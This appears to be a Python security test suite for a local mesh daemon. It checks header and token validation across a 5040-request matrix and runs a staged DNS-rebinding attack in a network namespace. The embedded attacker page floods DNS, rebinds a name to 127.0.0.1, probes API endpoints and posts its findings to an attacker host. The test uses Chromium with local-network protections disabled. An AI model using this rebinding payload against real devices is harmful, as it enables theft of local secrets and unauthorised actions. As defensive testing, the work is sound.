"""What a web page, or a program without the token, can get out of a daemon on the same device: nothing.

The whole matrix of requests over real sockets, and a real browser whose attacker rebinds its name to 127.0.0.1.
"""
import http.server
import itertools
import json
import pathlib
import re
import shutil
import socket
import socketserver
import struct
import subprocess
import tempfile
import threading
import unittest

from mesh_testing import DEFAULT_MODEL, SoloDevice, devices, network, run

ORIGIN = "http://tool.example:3000"
SECRETS = ("matrix-box", "tiny", "12D3Koo", "plexus://")


class Matrix(SoloDevice):
    name = "matrix-box"
    settings = {"PLEXUS_API_ORIGINS": ORIGIN}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.port, cls.token = cls.device.port, cls.device.token

    def send(self, method, target, headers, body=b"") -> tuple[int, dict, str]:
        lines = [f"{method} {target} HTTP/1.1", "Connection: close", *(f"{name}: {value}" for name, value in headers)]
        if body or method == "POST":
            lines.append(f"Content-Length: {len(body)}")
        with socket.create_connection(("127.0.0.1", self.port), timeout=20) as connection:
            connection.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
            received = b""
            while part := connection.recv(65536):
                received += part
        head, _, content = received.decode().partition("\r\n\r\n")
        status, *fields = head.split("\r\n")
        return int(status.split()[1]), {k.lower(): v for k, v in (field.split(": ", 1) for field in fields)}, content

    def test_of_5040_requests_only_those_with_host_origin_token_and_type_do_anything(self):
        port = self.port
        hosts = [(f"localhost:{port}", True), (f"127.0.0.1:{port}", True), (f"[::1]:{port}", True),
                 (f"LocalHost:{port}", True), (None, False), ("", False), ("localhost", False), ("localhost:80", False),
                 (f"evil.example:{port}", False), (f"127.0.0.1.nip.io:{port}", False),
                 (f"localhost:{port}.evil.example", False), (f"0.0.0.0:{port}", False)]
        origins = [(None, True), (f"http://localhost:{port}", True), (f"http://127.0.0.1:{port}", True),
                   (f"http://[::1]:{port}", True), (ORIGIN, True), ("", False), ("null", False),
                   ("https://evil.example", False), ("http://localhost", False), ("http://localhost:3000", False),
                   (f"https://localhost:{port}", False), (f"http://localhost:{port}.evil.example", False),
                   (f"http://localhost:{port}/", False), ("chrome-extension://abcdefgh", False)]
        standing = self.device.json("invite", "--ttl", "1h")["id"]
        invite, remove = "/api/v1/invites", f"/api/v1/invites/{standing}"
        ask = "/v1/chat/completions"
        question = json.dumps({"model": "tiny", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]})
        form = b"ttl_seconds=60"
        kinds = [("GET", "/api/v1/status", None, b"", True), ("DELETE", remove, None, b"", True),
                 ("GET", "/v1/models", None, b"", True), ("POST", ask, "application/json", question.encode(), True),
                 ("POST", invite, "Application/JSON; charset=utf-8", b'{"ttl_seconds":60}', True),
                 ("POST", invite, None, b'{"ttl_seconds":60}', False),
                 ("POST", invite, "text/plain", b'{"ttl_seconds":60}', False),
                 ("POST", invite, "application/x-www-form-urlencoded", form, False),
                 ("POST", invite, "multipart/form-data; boundary=x", form, False),
                 ("POST", ask, "application/jsonp", question.encode(), False)]
        tokens = [(None, False), ("Bearer plx-" + "0" * 64, False), (f"Bearer {self.token}", True)]
        allowed, refused = [], []
        for case in itertools.product(hosts, origins, kinds, tokens):
            (_, host), (_, origin), (*_, kind), (_, token) = case
            (allowed if host and origin and kind and token else refused).append(case)
        self.assertEqual(len(allowed) + len(refused), 5040)
        tasks_before = self.tasks()

        for (host, is_host), (origin, is_origin), (method, target, kind, body, _), (token, is_token) in refused:
            headers = [(name, value) for name, value in (("Host", host), ("Origin", origin), ("Content-Type", kind),
                                                         ("Authorization", token)) if value is not None]
            status, answered, content = self.send(method, target, headers, body)
            with self.subTest(method=method, target=target, headers=headers):
                # A request without any Host is no HTTP/1.1 at all.
                expected = 403 if not is_host or not is_origin else 401 if not is_token else 415
                self.assertIn(status, (expected, 400) if host is None else (expected,))
                for secret in (*SECRETS, self.token, standing):
                    self.assertNotIn(secret, content)
                self.assertIn(answered.get("access-control-allow-origin"), (None, origin if is_origin else None))

        self.assertEqual([each["id"] for each in self.invites()], [standing])
        self.assertEqual(self.tasks(), tasks_before)
        self.check_allowed(allowed)

    def check_allowed(self, cases):
        """The other side of the matrix, so that a daemon that refuses all does not pass."""
        worked = 0
        for (host, _), (origin, _), (method, target, kind, body, _), (token, _) in cases:
            if target == "/v1/chat/completions" and origin is not None:
                continue  # one answer a host is enough
            headers = [(name, value) for name, value in (("Host", host), ("Origin", origin), ("Content-Type", kind),
                                                         ("Authorization", token)) if value is not None]
            status, _, _ = self.send(method, target, headers, body)
            self.assertIn(status, (200, 201, 404, 503), f"{method} {target} {headers}")  # gone, or too many invites
            worked += status in (200, 201)
        self.assertGreater(worked, 50)

    def invites(self):
        return json.loads(self.device.curl("/api/v1/invites")[1])["invites"]

    def tasks(self):
        text = self.device.curl("/metrics")[1]
        return re.findall(r"^plexus_tasks_total.*$", text, re.MULTILINE)


NAME = "rebind.test"
ATTACKER = "192.0.2.1"
FLOOD = 1200  # names, more than a browser's cache of them holds

PAGE = """<!doctype html><script>
const port = location.port, out = [];
const note = (what, value) => out.push({what, value: String(value).slice(0, 2000)});
const tryFetch = async (what, url, options) => {
  try { const r = await fetch(url, options); note(what, r.type + ' ' + r.status + ' ' + await r.text()); }
  catch (e) { note(what, 'failed ' + e); }
};
const reads = ['/v1/models', '/api/v1/status', '/api/v1/devices', '/api/v1/invites', '/metrics', '/healthz'];
const invite = {method: 'POST', body: '{"ttl_seconds":60}'};
const json = {'content-type': 'application/json'};
async function attack(base, label) {
  for (const path of reads) await tryFetch(label + ' GET ' + path, base + path);
  await tryFetch(label + ' POST json', base + '/api/v1/invites', {...invite, headers: json});
  await tryFetch(label + ' POST text', base + '/api/v1/invites', {...invite, headers: {'content-type': 'text/plain'}});
  await tryFetch(label + ' POST no-cors', base + '/api/v1/invites', {...invite, mode: 'no-cors'});
  await tryFetch(label + ' POST guessed token', base + '/api/v1/invites',
                 {...invite, headers: {...json, authorization: 'Bearer plx-guess'}});
}
async function run() {
  await attack('http://127.0.0.1:' + port, 'cross 127.0.0.1');
  await attack('http://localhost:' + port, 'cross localhost');
  const form = document.createElement('form');
  const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame);
  form.method = 'post'; form.enctype = 'text/plain'; form.target = 'f';
  form.action = 'http://127.0.0.1:' + port + '/api/v1/invites';
  form.innerHTML = '<input name=\\'{"ttl_seconds":60,"x":"\\' value=\\'"}\\'>'; document.body.append(form); form.submit();
  for (let first = 0; first < FLOOD; first += 60)
    await Promise.all(Array.from({length: 60}, (_, i) =>
      fetch('http://n' + (first + i) + '.NAME:' + port + '/empty', {mode: 'no-cors'}).catch(() => 0)));
  await fetch('http://ATTACKER:REPORT/rebind', {mode: 'no-cors'});
  let turned = '';
  for (let i = 0; i < 70 && turned !== 'turned'; ++i) {
    try { turned = (await (await fetch('/who')).text()) === 'attacker' ? '' : 'turned'; } catch (e) { turned = ''; }
    if (!turned) await new Promise(done => setTimeout(done, 1000));
  }
  note('rebound', turned);
  await attack('', 'rebound');
  await fetch('http://ATTACKER:REPORT/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)});
}
</script><body onload="run()"></body>"""


class Attacker:
    """A name server and two web servers inside the namespace; `rebind` turns the name to 127.0.0.1."""

    def __init__(self, port: int):
        self.address = ATTACKER
        self.report: list | None = None
        self.reported = threading.Event()
        self.pages = self.serve(port)
        self.reports = self.serve(0)
        page = PAGE.replace("REPORT", str(self.reports.server_address[1])).replace("FLOOD", str(FLOOD))
        self.page = page.replace("NAME", NAME).replace("ATTACKER", ATTACKER).encode()
        self.names = socketserver.ThreadingUDPServer(("127.0.0.53", 53), self.name_handler())
        self.names.daemon_threads = True
        threading.Thread(target=self.names.serve_forever, daemon=True).start()

    def serve(self, port: int):
        attacker = self

        class Pages(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/rebind":
                    attacker.address = "127.0.0.1"
                body = {"/": lambda: attacker.page, "/who": lambda: b"attacker"}.get(self.path, lambda: b"")()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                attacker.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.do_GET()
                attacker.reported.set()

            def log_message(self, *_):
                pass

        server = http.server.ThreadingHTTPServer((ATTACKER, port), Pages)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def name_handler(self):
        attacker = self

        class Names(socketserver.BaseRequestHandler):
            def handle(self):
                query, connection = self.request
                end = query.index(b"\0", 12) + 5
                kind = struct.unpack(">H", query[end - 4:end - 2])[0]
                ours = kind == 1 and NAME.partition(".")[0].encode() in query
                address = socket.inet_aton(attacker.address)
                record = b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 1, 4) + address if ours else b""
                head = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1 if ours else 0, 0, 0)
                connection.sendto(head + query[12:end] + record, self.client_address)

        return Names


class Rebinding(unittest.TestCase):
    def test_a_page_whose_name_turns_to_this_device_reads_and_changes_nothing(self):
        with network("victim") as (spaces, _):
            space, _ = spaces["victim"]
            run("ip", "-n", space, "addr", "add", f"{ATTACKER}/32", "dev", "lo")
            resolver = pathlib.Path("/etc/netns") / space
            resolver.mkdir(parents=True)
            try:
                (resolver / "resolv.conf").write_text("nameserver 127.0.0.53\n")
                with devices("matrix-box", namespaces={"matrix-box": space}) as (device,):
                    self.attack(device, space)
            finally:
                shutil.rmtree(resolver)

    def attack(self, device, space):
        device.start()
        device.plexus("model", "import", DEFAULT_MODEL, "--name", "tiny")
        script = [*device.prefix, "python3", __file__, "--attack", str(device.port)]
        done = subprocess.run(script, capture_output=True, text=True, timeout=240)
        self.assertEqual(done.returncode, 0, done.stderr)
        report = {entry["what"]: entry["value"] for entry in json.loads(done.stdout)}

        self.assertEqual(report["rebound"], "turned", "the browser never came to the daemon under the attacker's name")
        self.assertIn("403", report["rebound GET /v1/models"])
        for what, value in report.items():
            for secret in (*SECRETS, device.token):
                self.assertNotIn(secret, value, what)
            if what.startswith("rebound "):
                self.assertRegex(value, r"^basic 403 ", what)
            elif what.startswith("cross "):
                self.assertRegex(value, r"^(failed|opaque) ", what)
        self.assertEqual(json.loads(device.curl("/api/v1/invites")[1])["invites"], [])
        refused = re.findall(r'^plexus_api_requests_total\{route="refused",status="403"\} (\d+)',
                             device.curl("/metrics")[1], re.MULTILINE)
        self.assertGreaterEqual(int(refused[0]), 10)


def attack_with_browser(port: int) -> None:
    """Inside the namespace: serves the attacker's page, opens it, prints what the page could do."""
    attacker = Attacker(port)
    profile = tempfile.mkdtemp(prefix="plexus-browser-")
    # The browser's own guard is taken away: what is tested is the daemon.
    browser = subprocess.Popen(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
         "--disable-background-networking", "--disable-component-update", f"--user-data-dir={profile}",
         "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,DnsOverHttps",
         "--remote-debugging-port=0", f"http://{NAME}:{port}/"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        if not attacker.reported.wait(200):
            raise SystemExit("the page did not report")
    finally:
        browser.terminate()
        browser.wait(20)
        shutil.rmtree(profile, ignore_errors=True)
    print(json.dumps(attacker.report))


if __name__ == "__main__":
    import sys
    if sys.argv[1:2] == ["--attack"]:
        attack_with_browser(int(sys.argv[2]))
    else:
        unittest.main()
